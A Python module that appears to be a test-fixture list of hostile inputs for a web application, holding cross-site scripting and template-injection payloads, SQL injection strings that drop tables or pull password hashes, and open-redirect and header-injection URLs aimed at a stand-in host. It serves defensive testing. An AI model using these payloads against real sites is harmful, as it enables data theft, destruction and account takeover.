"""Texts that attack whoever shows them, sorts by them, goes where they say or asks a database with them: written here."""

SCRIPTS = (     # each calls pwn() where it is not shown as text
    "<script>pwn()</script>", '"><script src=//evil.example/x.js></script>', "'><img src=x onerror=pwn()>", "<svg/onload=pwn()>",
    "</title><script>pwn()</script>", "</textarea><script>pwn()</script>", "</option></select><img src=x onerror=pwn()>",
    '" onfocus=pwn() autofocus x="', "' onmouseover='pwn()", "x onpointerenter=pwn() ", "javascript:pwn()", "[x](javascript:pwn())",
    "[x](JaVa&#115;cript:pwn())", "<javascript:pwn()>", '![x](x"onerror="pwn())', "{{ 7*7 }}{{ config }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwn()&gt;">',
    '<iframe srcdoc="<script>pwn()</script>"></iframe>', '<a href="java\tscript:pwn()">x</a>',
    "<form action=//evil.example><button>x</button></form>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<details open ontoggle=pwn()>x</details>", '<noscript><p title="</noscript><img src=x onerror=pwn()>">',
    "&lt;img src=x onerror=pwn()&gt;", "\\u003cscript\\u003epwn()\\u003c/script\\u003e", "＜script＞pwn()＜/script＞",
    "%(name)s %s {0.__class__} <b onclick=pwn()>x</b>", "--><script>pwn()</script><!--", "]]><script>pwn()</script>",
    "<x-pwn tabindex=1 onfocus=pwn()>x</x-pwn>", "<div style=background:url(//evil.example/x)>x</div>",
)

SQL = tuple(f"zqx{n}{text}" for n, text in enumerate((
    "'", '"', "' OR '1'='1", "' OR 1=1--", '" OR ""="', "') OR ('1'='1", "'; DROP TABLE people;--", "'; DROP TABLE people; COMMIT;--",
    "' UNION SELECT password_hash FROM people--", "' UNION ALL SELECT NULL,NULL,NULL--", "1; SELECT pg_sleep(5)", "'||pg_sleep(5)||'",
    "' AND 1=CAST((SELECT password_hash FROM people LIMIT 1) AS int)--", "1 OR 1=1", "1) OR (1=1", "\\'; --", "\\", "%", "_", "%%",
    "a%' OR 'a' LIKE 'a", "' OR SUBSTR((SELECT email FROM people),1,1)='a", "'/**/OR/**/1=1--", "' OR randomblob(500000000)--",
    "'; ATTACH DATABASE '/tmp/x' AS x;--", "' OR load_extension('x')--", "${1+1}", "{1}", ":name", "?", "%s", "%(x)s", "$1",
    "' COLLATE NOCASE--", "1e1", "0x31", "1 AND (SELECT count(*) FROM people)>0", "' OR EXISTS(SELECT 1 FROM posts)--", "';",
    "` OR 1=1", "[x]", "E'\\x27'", "$$x$$",
)))

ELSEWHERE = (   # where a browser might be led from this site to another
    "//evil.example", "///evil.example", "////evil.example", "http://evil.example", "https://evil.example", "HTTPS://EVIL.EXAMPLE",
    "https:evil.example", "https:/evil.example", "http:\\\\evil.example", "/\\evil.example", "\\/evil.example", "\\\\evil.example",
    "/\\/evil.example", "/\t/evil.example", "/\n/evil.example", "/\r/evil.example", "\t//evil.example", " //evil.example",
    "\x00//evil.example", "/\x00/evil.example", "\x1f//evil.example", "\u00a0//evil.example", "\u3000//evil.example",
    "\ufeff//evil.example", "\u2028//evil.example", "javascript:pwn()", "JaVaScRiPt:pwn()", "java\nscript:pwn()", "javascript://%0apwn()",
    "data:text/html,<script>pwn()</script>", "vbscript:pwn()", "file:///etc/passwd", "ftp://evil.example", "mailto:x@evil.example",
    "blob:https://evil.example/x", "evil.example", "evil.example/inicio", "@evil.example", "/@evil.example/..//evil.example",
    "//evil.example@localhost", "//localhost@evil.example", "http://localhost@evil.example", "http://localhost.evil.example",
    "//evil%2eexample", "//evil\u3002example", "／／evil.example", "/／evil.example".replace("／", "//"), "//[::1]", "//2130706433",
    "//127.1", "/inicio//../..//evil.example", "/..//evil.example", "/.//evil.example", "/inicio\r\nSet-Cookie: lms=x",
    "/inicio\nLocation: https://evil.example", "/%0d%0aLocation:%20https://evil.example\r\n", "?next=//evil.example", "#//evil.example",
    "", "x" * 3000, "/" + "x" * 3000, "/salir", "/ingresar?next=//evil.example", "http:///evil.example", "ht\ttp://evil.example",
    "//;@evil.example", "//evil.example:80", "https://evil.example%2f.localhost",
)
